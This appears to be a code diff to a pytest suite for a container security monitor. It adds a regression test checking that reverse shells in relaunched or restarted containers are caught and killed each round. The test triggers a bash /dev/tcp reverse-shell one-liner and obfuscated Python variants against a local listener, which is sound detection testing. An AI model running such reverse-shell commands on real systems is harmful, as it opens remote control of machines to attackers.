@@ -72,8 +72,11 @@ class Subscriber:
                 return
             buffer += data
             *lines, buffer = buffer.split(b"\n")
+            now = time.monotonic()
             with self.cond:
-                self.messages.extend(json.loads(line) for line in lines if line)
+                for line in lines:
+                    if line:
+                        self.messages.append({**json.loads(line), "_received": now})
                 self.cond.notify_all()
 
     def wait(self, match: Any, timeout: float, what: str) -> dict[str, Any]:
@@ -109,6 +112,7 @@ class Listener:
         self.port = self.server.getsockname()[1]
         self.sink = sink
         self.conns: list[socket.socket] = []
+        self.accepted: list[float] = []  # when each connection came in (monotonic)
         threading.Thread(target=self._serve, daemon=True).start()
 
     def _serve(self) -> None:
@@ -117,6 +121,7 @@ class Listener:
                 conn, _ = self.server.accept()
             except OSError:
                 return
+            self.accepted.append(time.monotonic())
             self.conns.append(conn)
             if self.sink:
                 threading.Thread(target=self._drain, args=(conn,), daemon=True).start()
@@ -163,10 +168,21 @@ class Monitor:
             timeout=60,
         )
 
-    def launch(self) -> str:
-        name = f"{self.prefix}{uuid.uuid4().hex[:6]}"
+    def launch(self, name: str = "") -> str:
+        """Create and start a container (`name`: a given one, e.g. a slot started again).
+        Tagged with this monitor's COI home, as sessions are, so no other test's daemon (of
+        another home, whose prefix may be a prefix of ours) ever watches it."""
+        from coi_tui.paths import home_tag
+
+        name = name or f"{self.prefix}{uuid.uuid4().hex[:6]}"
         nic = {"type": "nic", "network": BRIDGE, "name": "eth0"}
-        self.incus.create_instance(name, self.image, devices={"eth0": nic}, start=True)
+        self.incus.create_instance(
+            name,
+            self.image,
+            config={"user.coi.home": home_tag(self.home)},
+            devices={"eth0": nic},
+            start=True,
+        )
         return name
 
     def container(self) -> str:
@@ -250,8 +266,17 @@ def netns(*args: str) -> None:
 def mon(
     run_prefix: str, incus: Any, image: str, tmp_path_factory: pytest.TempPathFactory
 ) -> Iterator[Monitor]:
+    with running_monitor(f"{run_prefix}m", incus, image, tmp_path_factory) as monitor:
+        yield monitor
+
+
+@contextlib.contextmanager
+def running_monitor(
+    prefix: str, incus: Any, image: str, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[Monitor]:
+    """A monitor daemon of a COI home of its own serving `prefix`, with two containers kept
+    booting ahead of the tests."""
     home = tmp_path_factory.mktemp("monitor-home")
-    prefix = f"{run_prefix}m"
     (home / "config.toml").write_text(
         "[monitoring]\nidle_exit_sec = 60\nexfil_threshold_mb = 20\nspawn_rate_per_sec = 150\n"
     )
@@ -405,6 +430,96 @@ def test_obfuscated_reverse_shells_caught_by_behaviour(mon: Monitor, kind: str) 
         mon.assert_status(name, "Gone")
     finally:
         listener.close()
+
+
+SLOT_ROUNDS = int(os.environ.get("COI_TEST_SLOT_ROUNDS", "1"))  # rounds of each kind
+SHELL_TO_FROZEN_SEC = 1.0  # a reverse shell's connection to its container frozen
+
+
+def relaunch(mon: Monitor, name: str) -> None:
+    """Start the slot again under the same name, as soon as Incus lets the name be reused."""
+
+    def created() -> bool:
+        try:
+            mon.launch(name)
+        except Exception:
+            return False
+        return True
+
+    wait_until(created, 30, f"{name} to be created again", step=0.1)
+
+
+def test_a_slot_started_again_is_watched_every_round(mon: Monitor) -> None:
+    """Issue 17: the daemon tracked containers by name, so a slot killed and started again
+    before its next refresh kept the old container's record (killed, its events ignored) and
+    the new one went unwatched. Rounds on one name, each ending with the monitor killing the
+    container for a reverse shell and the slot started again at once; in every second round
+    of three the watched container is first killed with `coi kill` and started again at once,
+    in every third it is restarted (same instance, another init). The shell starts as soon as
+    the container has an address (the daemon may not have seen it yet): each round's must be
+    frozen within SHELL_TO_FROZEN_SEC of its connection. COI_TEST_SLOT_ROUNDS=4 for twelve."""
+    name = mon.container()
+    listener = Listener()
+    frozen: list[float] = []
+    gone: list[float] = []
+    rules: list[str] = []
+    seen: set[str] = set()
+    incarnations = 1
+
+    def watches() -> int:
+        return sum(
+            1
+            for m in list(mon.events.messages)
+            if m.get("type") == "watch" and m.get("container") == name
+        )
+
+    try:
+        for round_ in range(3 * SLOT_ROUNDS):
+            how = ("monitor", "coi kill", "restart")[round_ % 3]
+            if how != "monitor":
+                # this incarnation is watched; then the slot is started again at once
+                wait_until(lambda n=incarnations: watches() >= n, 30, f"{name} watched")
+                if how == "coi kill":
+                    killed = mon.coi("kill", "--force", name)
+                    assert killed.returncode == 0, killed.stderr
+                    relaunch(mon, name)
+                else:  # the same instance, another init
+                    subprocess.run(["incus", "restart", "--force", name], check=True, timeout=60)
+                incarnations += 1
+            wait_until(lambda: mon.incus.get_instance(name, with_state=True).ipv4, 60, "an address")
+            connections = len(listener.accepted)
+            # half the rounds a shell only the behavioural rules see
+            kind = "python-file-dup2" if round_ % 2 else "dev-tcp"
+            if kind == "dev-tcp":
+                mon.trigger(name, f"bash -i >& /dev/tcp/{GATEWAY}/{listener.port} 0>&1")
+            else:
+                mon.trigger(name, obfuscated(kind, listener.port))
+            record = mon.events.wait(
+                lambda m: (
+                    m.get("type") == "threat"
+                    and m.get("container") == name
+                    and m.get("action") == "killed"
+                    and m.get("id") not in seen
+                ),
+                20,
+                f"round {round_ + 1}: the reverse shell in {name} killed",
+            )
+            seen.add(record["id"])
+            assert record["level"] == "critical", record
+            mon.assert_status(name, "Gone")
+            # a command-line rule can freeze it before it connects: no connection then
+            connected = (listener.accepted[connections:] or [record["_received"]])[0]
+            frozen.append(record["_received"] - connected)
+            gone.append(time.monotonic() - connected)
+            rules.append(record["rule_id"])
+            if round_ < 3 * SLOT_ROUNDS - 1:
+                relaunch(mon, name)
+                incarnations += 1
+    finally:
+        listener.close()
+        print(f"\nslot rounds: connection->frozen {[round(x, 3) for x in frozen]} s,")
+        print(f"connection->gone {[round(x, 2) for x in gone]} s, rules {rules}")
+    assert max(frozen) < SHELL_TO_FROZEN_SEC, frozen
 
 
 # --------------------------------------------------------------------------- network
